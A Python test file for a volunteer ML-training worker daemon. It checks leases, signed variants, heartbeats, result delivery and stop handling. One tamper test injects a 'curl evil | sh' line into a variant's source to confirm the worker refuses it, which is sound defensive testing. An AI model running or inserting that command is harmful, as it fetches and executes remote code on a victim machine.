"""The daemon loop against the real coordinator app (in-process, on SQLite), with a stand-in for training.

Only the training processes are replaced: `StandInExecutor` has the Executor's `run(request, *,
on_progress, should_abort) -> Outcome`, reports progress, and returns an Outcome. Everything else
is real: registration, signed variants, leases, heartbeats, the outbox and the coordinator's verdicts.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import signal
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy
from fastapi.testclient import TestClient

from coordinator.config import Settings
from coordinator.kv import LocalKV
from coordinator.main import create_app
from coordinator.services.tracks import TrackParams, create_track
from coordinator.services.workers import account_secret
from shared.hashing import variant_hash
from shared.protocol import HardwareInfo, VariantRef
from shared.signing import SigningKey
from shared.track_spec import TrackAssets
from worker.agents.base import AgentError, Proposal, ProposalContext
from worker.agents.offline import OfflineAgent
from worker.client import CoordinatorClient, RetryPolicy
from worker.daemon import Counters, Daemon, DaemonOptions, agent_seed_of
from worker.display import PlainDisplay
from worker.execution import Outcome, Progress, RunRequest
from worker.execution.outcome import make_outcome
from worker.identity import WorkerHome
from worker.stop import StopSignal
from worker.variant_check import VariantRefused, check_variant

TRACK = "daemon-track"
BASELINE = '''"""A stand-in baseline: the stand-in executor never executes it."""

LR = 0.004  # learning rate
DEPTH = 4  # blocks


def train(ctx):
    raise NotImplementedError
'''
URL = "http://coordinator.test"


class Clock:
    """The coordinator's clock: real time, plus an offset a test can push forward."""

    def __init__(self) -> None:
        self.offset = timedelta()

    def __call__(self) -> datetime:
        return datetime.now(UTC) + self.offset


class AppTransport(httpx.BaseTransport):
    """Carries the worker's requests to the coordinator app; `tamper` may rewrite an answer."""

    def __init__(self, app_client: TestClient) -> None:
        self.app_client = app_client
        self.tamper: Callable[[httpx.Request, httpx.Response], httpx.Response] | None = None
        self.down: Callable[[httpx.Request], bool] = lambda _request: False
        self.paths: list[str] = []

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        self.paths.append(f"{request.method} {request.url.path}")
        if self.down(request):
            raise httpx.ConnectError("connection refused", request=request)
        answer = self.app_client.request(
            request.method, str(request.url), headers=dict(request.headers), content=request.read()
        )
        response = httpx.Response(answer.status_code, headers=answer.headers, content=answer.content)
        return self.tamper(request, response) if self.tamper else response


@dataclass
class Coordinator:
    app_client: TestClient
    clock: Clock
    assets: dict[str, bytes]

    def query(self, sql: str, **params: Any) -> list[tuple[Any, ...]]:
        with self.app_client.app.state.arn.session_factory() as session:  # type: ignore[attr-defined]
            return [tuple(row) for row in session.execute(sqlalchemy.text(sql), params).all()]

    def get(self, path: str) -> Any:
        response = self.app_client.get(path)
        assert response.status_code == 200, response.text
        return response.json()


@pytest.fixture
def coordinator(tmp_path: Path) -> Iterator[Coordinator]:
    settings = Settings(
        data_dir=tmp_path / "coordinator",
        database_url=f"sqlite:///{tmp_path / 'coordinator.sqlite3'}",
        create_builtin_tracks=False,
        spot_check_rate_untrusted=0.0,  # each test knows which lease comes next
        heartbeat_interval_s=0.05,
        no_work_retry_after_s=0.05,
        lease_slack_s=60.0,
    )
    from coordinator.migrate import upgrade

    upgrade(settings.resolved_database_url)
    clock = Clock()
    app = create_app(settings, kv=LocalKV(), clock=clock, run_reaper=False)
    with TestClient(app) as app_client:
        state = app.state.arn
        settings.assets_dir.mkdir(parents=True, exist_ok=True)
        blobs = {name: f"{name} bytes".encode() for name in ("train0", "val", "token_bytes")}
        shas = {}
        for name, data in blobs.items():
            shas[name] = hashlib.sha256(data).hexdigest()
            (settings.assets_dir / shas[name]).write_bytes(data)
        params = TrackParams(
            id=TRACK, name="Daemon track", hardware_class="cpu", vocab_size=256, seq_len=32, eval_tokens=1024,
            eval_batch_size=4, time_budget_s=5.0, grace_s=1.0, quorum=1, tolerance=0.05, calibration_runs=1,
        )  # fmt: skip
        with state.session_factory() as session:
            create_track(
                session, params, key=state.signing_key, brief="Make val_bpb go down.", baseline=BASELINE,
                assets=TrackAssets(train=(shas["train0"],), val=shas["val"], token_bytes=shas["token_bytes"]),
            )  # fmt: skip
            session.commit()
        yield Coordinator(app_client, clock, {shas[k]: v for k, v in blobs.items()})


@dataclass
class StandInExecutor:
    """The Executor's `run`; `during(should_abort)` runs mid-training; `val_bpb` is what it reports."""

    val_bpb: float = 1.5
    during: Callable[[Callable[[], bool]], str | None] | None = None
    calls: list[dict[str, Any]] = field(default_factory=list)
    crash: tuple[str, str] | None = None  # (reason, public_reason) of a crash to report instead
    baseline_bpb: float | None = None  # what the baseline scores, where it differs from `val_bpb`

    def run(
        self,
        request: RunRequest,
        *,
        on_progress: Callable[[Progress], None] | None = None,
        should_abort: Callable[[], bool] | None = None,
    ) -> Outcome:
        spec = request.spec
        assets = (*spec.assets.train, spec.assets.val, spec.assets.token_bytes)
        data = {sha: (request.data_dir / sha).read_bytes() for sha in assets}
        self.calls.append(
            {
                "source": request.source,
                "seed": request.seed,
                "spec": spec,
                "data": data,
                "workdir": request.workdir,
                "holdout": request.holdout,
            }
        )
        if on_progress is not None:
            on_progress(
                Progress(phase="training", step=1, loss=5.5, elapsed_s=0.1, time_budget_s=spec.time_budget_s)
            )
        aborted = self.during(should_abort or (lambda: False)) if self.during else None
        if aborted:
            return make_outcome(status="crashed", code="aborted", reason=aborted, metrics={}, wall_seconds=0.2)
        if self.crash is not None:
            reason, public = self.crash
            return make_outcome(
                status="crashed", code="variant_crashed", reason=reason, public_reason=public, metrics={}
            )
        scored = self.baseline_bpb if self.baseline_bpb is not None and request.source == BASELINE else self.val_bpb
        metrics = {
            "val_bpb": scored,
            "val_loss": 1.0,
            "steps": 10,
            "tokens": 1280,
            "train_seconds": 0.1,
        }
        return make_outcome(
            status="ok",
            code=None,
            reason=None,
            metrics=metrics,
            env={"torch": "fake", "nan": float("nan")},
            wall_seconds=0.2,
        )


def wait_until(condition: Callable[[], bool], *, limit_s: float = 20.0) -> bool:
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.01)
    return False


@dataclass
class Volunteer:
    home: WorkerHome
    transport: AppTransport
    output: io.StringIO
    stop: StopSignal

    def daemon(
        self, *, executor: StandInExecutor, agent: Any = None, account: str = "alice", **options: Any
    ) -> Daemon:
        policy = RetryPolicy(max_attempts=2, base_delay_s=0.01)
        client = CoordinatorClient(
            URL, transport=self.transport, wait=self.stop.aborting.wait, retry_policy=policy
        )
        return Daemon(
            client=client,
            home=self.home,
            agent=agent or OfflineAgent(),
            executor=executor,
            display=PlainDisplay(self.output),
            options=DaemonOptions(
                coordinator_url=URL,
                hardware=HardwareInfo(hardware_class="cpu"),
                account=account,
                name=f"{account}-box",
                **options,
            ),
            stop=self.stop,
        )


@pytest.fixture
def volunteer(tmp_path: Path, coordinator: Coordinator) -> Callable[[str], Volunteer]:
    def make(name: str) -> Volunteer:
        transport = AppTransport(coordinator.app_client)
        return Volunteer(WorkerHome(tmp_path / name), transport, io.StringIO(), StopSignal())

    return make


def test_a_worker_keeps_and_shows_the_secret_its_accounts_other_machines_join_with(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")
    alice.daemon(executor=StandInExecutor(val_bpb=1.5), max_experiments=1).run()
    secret = account_secret(coordinator.app_client.app.state.arn.signing_key, "alice")  # type: ignore[attr-defined]
    state = alice.home.load_state(URL)
    assert state is not None and (state.account, state.account_secret) == ("alice", secret)
    assert f"joins account alice with --account-secret {secret}" in alice.output.getvalue()


def test_a_worker_calibrates_then_explores_and_every_signed_report_is_accepted(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")
    executor = StandInExecutor(val_bpb=1.5)

    counters = alice.daemon(executor=executor, max_experiments=2).run()

    assert counters == Counters(leases=2, completed=2, ok=2, delivered=2)
    # The explore is paired: the parent (its control) and the child, with one seed, in an order
    # that alternates with the seed.
    calibrate, *pair = executor.calls
    [explore] = [call for call in pair if call["source"] != BASELINE]
    [control] = [call for call in pair if call["source"] == BASELINE]
    assert calibrate["source"] == BASELINE
    assert calibrate["data"] == coordinator.assets  # fetched, checked and named by sha256
    assert calibrate["spec"].time_budget_s == 5.0
    assert (calibrate["holdout"], explore["holdout"]) == (None, None)  # the track has no held-out pool
    rows = coordinator.query("select kind, seed, state from leases order by created_at")
    assert [(kind, state) for kind, _, state in rows] == [
        ("calibrate", "completed"),
        ("explore", "completed"),
    ]
    assert [call["seed"] for call in (calibrate, control, explore)] == [rows[0][1], rows[1][1], rows[1][1]]
    assert pair[0] is (control if rows[1][1] % 2 == 0 else explore)
    [(control_bpb,)] = coordinator.query("select control_val_bpb from runs where kind = 'explore'")
    assert control_bpb == 1.5
    child = coordinator.get(f"/v1/variants/{variant_hash(explore['source'])}?track_id={TRACK}")
    assert child["source"] == explore["source"]
    assert child["parent_hash"] == variant_hash(BASELINE)
    assert (
        child["hypothesis"]
        == OfflineAgent()
        .propose(
            ProposalContext(
                track_id=TRACK, brief="", parent_hash="", parent_source=BASELINE,
                seed=agent_seed_of(coordinator.query("select id from leases where kind = 'explore'")[0][0]),
            )
        )
        .hypothesis
    )
    assert not list(alice.home.outbox_dir.glob("*.json"))
    output = alice.output.getvalue()
    assert "training" in output
    assert output.rstrip().endswith(
        "worker stopped: 2 leases, 2 runs (2 ok, 0 crashed, 0 rejected), 0 released, 0 lost,"
        " 2 results delivered, 0 refused"
    )


def test_a_report_carries_the_reason_the_execution_vouches_for_never_the_variants_own_text(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")
    local = "train() raised ValueError at train.py:3 in train: ssh-ed25519 AAAAC3Nza... alice@laptop"
    executor = StandInExecutor(crash=(local, "train() raised ValueError at train.py:3"))

    alice.daemon(executor=executor, max_experiments=1).run()

    [(reason, code, layer)] = coordinator.query("select reason, code, layer from runs")
    assert (reason, code, layer) == ("train() raised ValueError at train.py:3", "variant_crashed", "harness")
    assert "ssh-ed25519" in alice.output.getvalue()  # the volunteer sees it all, on their own screen


def test_a_run_that_never_trained_still_records_the_device_its_worker_is_pinned_to(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "1")  # as `worker join --gpus 0,1` pins its second worker
    executor = StandInExecutor(crash=("train() raised ValueError", "train() raised ValueError"))

    volunteer("alice").daemon(executor=executor, max_experiments=1).run()

    [(env,)] = coordinator.query("select env from runs")
    env = json.loads(env) if isinstance(env, str) else env
    assert (env["cuda_visible_devices"], env["hardware_class"]) == ("1", "cpu")


def test_a_claimed_improvement_is_verified_by_another_account_on_the_unchanged_source(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice_executor = StandInExecutor(val_bpb=1.5)
    volunteer("alice").daemon(executor=alice_executor, max_experiments=1).run()  # calibration
    alice_executor.val_bpb, alice_executor.baseline_bpb = 1.2, 1.5
    volunteer("alice").daemon(executor=alice_executor, max_experiments=1).run()  # a claimed improvement
    [claimed] = [call["source"] for call in alice_executor.calls[1:] if call["source"] != BASELINE]

    bob_executor = StandInExecutor(val_bpb=1.21, baseline_bpb=1.5)
    volunteer("bob").daemon(executor=bob_executor, account="bob", max_experiments=1).run()

    # Paired with the head: both trained with the lease's seed.
    assert sorted(call["source"] for call in bob_executor.calls) == sorted([claimed, BASELINE])
    [(seed,)] = coordinator.query("select seed from leases where kind = 'verify'")
    assert {call["seed"] for call in bob_executor.calls} == {seed}
    detail = coordinator.get(f"/v1/variants/{variant_hash(claimed)}?track_id={TRACK}")
    assert detail["status"] == "verified"
    assert detail["val_bpb"] == pytest.approx(1.21)


def test_a_tampered_variant_is_never_run_and_its_lease_is_released(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")

    def inject_code(request: httpx.Request, response: httpx.Response) -> httpx.Response:
        if request.url.path != "/v1/leases" or response.json()["lease"] is None:
            return response
        body = response.json()
        body["lease"]["variant"]["source"] += "import os\nos.system('curl evil | sh')\n"
        alice.stop.request()  # one tampered lease is enough for this test
        return httpx.Response(200, json=body)

    alice.transport.tamper = inject_code
    executor = StandInExecutor()

    counters = alice.daemon(executor=executor).run()

    assert executor.calls == []
    assert (counters.leases, counters.released, counters.completed) == (1, 1, 0)
    [(state, reason)] = coordinator.query("select state, release_reason from leases")
    assert state == "released"
    assert reason.startswith("variant refused by the worker: source hashes to ")
    assert "REFUSING variant" in alice.output.getvalue()


def test_a_variant_signed_by_another_key_is_refused() -> None:
    coordinator_key, impostor = SigningKey.generate(), SigningKey.generate()
    source = "LR = 0.1\n"
    ref = {"track_id": "t", "hash": variant_hash(source)}
    honest = VariantRef(source=source, signature=coordinator_key.sign(ref), **ref)
    forged = VariantRef(source=source, signature=impostor.sign(ref), **ref)

    check_variant(honest, track_id="t", coordinator_key=coordinator_key.public_key)
    with pytest.raises(VariantRefused, match="signature does not check out"):
        check_variant(forged, track_id="t", coordinator_key=coordinator_key.public_key)
    with pytest.raises(VariantRefused, match="belongs to track 't'"):
        check_variant(honest, track_id="other", coordinator_key=coordinator_key.public_key)


def test_a_lease_the_coordinator_takes_back_aborts_the_run_and_reports_nothing(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")

    def lease_expires(should_abort: Callable[[], bool]) -> str | None:
        coordinator.clock.offset = timedelta(hours=1)  # past the deadline: the next heartbeat gets 410
        alice.stop.request()
        return "aborted" if wait_until(should_abort) else None

    counters = alice.daemon(executor=StandInExecutor(during=lease_expires)).run()

    assert (counters.leases, counters.lost, counters.completed) == (1, 1, 0)
    assert coordinator.query("select count(*) from runs") == [(0,)]
    assert not list(alice.home.outbox_dir.glob("*.json"))
    assert "took lease" in alice.output.getvalue() and "lease_expired" in alice.output.getvalue()


def test_a_first_stop_request_finishes_and_delivers_the_current_lease(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")

    def interrupt_once(should_abort: Callable[[], bool]) -> str | None:
        alice.stop.request()
        return "aborted" if should_abort() else None

    counters = alice.daemon(executor=StandInExecutor(during=interrupt_once)).run()

    assert (counters.leases, counters.completed, counters.delivered) == (1, 1, 1)
    assert coordinator.query("select state from leases") == [("completed",)]


def test_a_full_disk_when_saving_a_result_sends_it_directly_and_stops_the_worker(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")

    def fill_the_disk(_should_abort: Callable[[], bool]) -> str | None:
        # Where this lease's report will be written, every write fails with ENOSPC.
        [(lease_id,)] = coordinator.query("select id from leases where state = 'active'")
        alice.home.outbox_dir.mkdir(parents=True, exist_ok=True)
        (alice.home.outbox_dir / f".{lease_id}.json.tmp").symlink_to("/dev/full")
        return None

    counters = alice.daemon(executor=StandInExecutor(during=fill_the_disk), max_experiments=5).run()

    assert (counters.leases, counters.delivered) == (1, 1)  # no new lease after the failure
    assert coordinator.query("select state from leases") == [("completed",)]
    assert coordinator.query("select count(*) from runs") == [(1,)]
    assert not list(alice.home.outbox_dir.iterdir())  # nothing half-written left behind
    assert "No space left on device" in alice.output.getvalue()
    assert "free some disk space" in alice.output.getvalue()


def test_a_second_stop_request_aborts_the_run_and_releases_the_lease(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")

    def interrupt_twice(should_abort: Callable[[], bool]) -> str | None:
        alice.stop.request()
        alice.stop.request()
        return "aborted" if should_abort() else None

    counters = alice.daemon(executor=StandInExecutor(during=interrupt_twice)).run()

    assert (counters.leases, counters.completed, counters.released) == (1, 0, 1)
    assert coordinator.query("select state, release_reason from leases") == [
        ("released", "the worker was stopped before the run finished")
    ]
    assert coordinator.query("select count(*) from runs") == [(0,)]


@pytest.mark.parametrize(
    ("error", "reason"),
    [
        (AgentError("no ideas today"), "agent broken failed: no ideas today"),
        (KeyError("bug"), "agent broken failed: the agent raised KeyError: 'bug'"),
    ],
)
def test_an_agent_failure_releases_the_lease_with_the_reason(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer], error: Exception, reason: str
) -> None:
    alice = volunteer("alice")
    alice.daemon(executor=StandInExecutor(), max_experiments=1).run()  # calibration

    class BrokenAgent:
        name = "broken"

        def propose(self, context: ProposalContext) -> Proposal:
            alice.stop.request()
            raise error

    executor = StandInExecutor()
    counters = alice.daemon(executor=executor, agent=BrokenAgent()).run()

    assert executor.calls == []
    assert (counters.leases, counters.released) == (1, 1)
    assert coordinator.query("select kind, state, release_reason from leases where kind = 'explore'") == [
        ("explore", "released", reason)
    ]


def test_a_result_kept_while_the_coordinator_is_down_is_delivered_at_the_next_start(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    alice = volunteer("alice")

    def result_posts_fail(request: httpx.Request) -> bool:
        if request.url.path.endswith("/result"):
            alice.stop.request()  # the volunteer gives up waiting: Ctrl-C twice
            alice.stop.request()
            return True
        return False

    alice.transport.down = result_posts_fail
    counters = alice.daemon(executor=StandInExecutor(), max_experiments=1).run()

    assert (counters.completed, counters.delivered) == (1, 0)
    [queued] = alice.home.outbox_dir.glob("*.json")
    assert "1 result(s) wait in" in alice.output.getvalue()
    assert coordinator.query("select count(*) from runs") == [(0,)]

    restarted = volunteer("alice").daemon(executor=StandInExecutor(), max_experiments=0).run()

    assert restarted.delivered == 1
    assert not queued.exists()
    assert coordinator.query("select count(*) from runs where lease_id = :lease", lease=queued.stem) == [(1,)]


def test_the_first_sigint_stops_taking_work_and_the_second_aborts() -> None:
    stop = StopSignal()
    output = io.StringIO()
    before = signal.getsignal(signal.SIGINT)  # SIG_IGN under nohup, Python's default in a terminal
    restore = stop.install(PlainDisplay(output))
    try:
        os.kill(os.getpid(), signal.SIGINT)
        assert wait_until(stop.stopping.is_set) and not stop.aborting.is_set()
        os.kill(os.getpid(), signal.SIGINT)
        assert wait_until(stop.aborting.is_set)
    finally:
        restore()
    assert signal.getsignal(signal.SIGINT) is before
    assert "stopping after the current lease" in output.getvalue()
    assert "aborting the current run" in output.getvalue()


def test_the_daemon_publishes_its_lease_and_progress_for_worker_status(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    from worker.status import read_status

    alice = volunteer("alice")
    seen = []

    def look(_should_abort: Callable[[], bool]) -> str | None:
        seen.append(read_status(alice.home.root))
        return None

    alice.daemon(executor=StandInExecutor(during=look), max_experiments=2).run()

    assert [report.running for report in seen] == [True, True, True]
    calibrate, first, second = (report.worker.slots[0] for report in seen if report.worker)
    assert (calibrate.state, calibrate.lease.kind, calibrate.progress.step) == ("verifying", "calibrate", 1)  # type: ignore[union-attr]
    assert (first.state, first.lease.kind, first.lease.paired) == ("training", "explore", True)  # type: ignore[union-attr]
    assert (first.progress.runs_left, second.progress.runs_left) == (1, 0)  # type: ignore[union-attr]
    final = read_status(alice.home.root)
    assert not final.running and final.note is not None and final.note.startswith("not running: stopped")
    assert final.worker is not None and (final.worker.name, final.worker.account) == ("alice-box", "alice")
    today = final.worker.today
    assert (today.experiments, today.verify_runs, today.failed) == (1, 1, 0)


def test_a_coordinator_that_raises_its_minimum_release_stops_the_worker_after_delivering_its_result(
    coordinator: Coordinator, volunteer: Callable[[str], Volunteer]
) -> None:
    from worker.client import CoordinatorError

    alice = volunteer("alice")

    def upgrade_the_coordinator(_should_abort: Callable[[], bool]) -> str | None:
        coordinator.app_client.app.state.arn.settings.min_worker_version = "99.0"  # type: ignore[attr-defined]
        return None

    daemon = alice.daemon(executor=StandInExecutor(during=upgrade_the_coordinator), max_experiments=3)
    with pytest.raises(CoordinatorError) as refused:
        daemon.run()

    assert refused.value.code == "worker_outdated"
    assert "needs worker 99.0 or newer" in refused.value.message
    assert coordinator.query("select state from leases") == [("completed",)]
    assert daemon.counters.delivered == 1
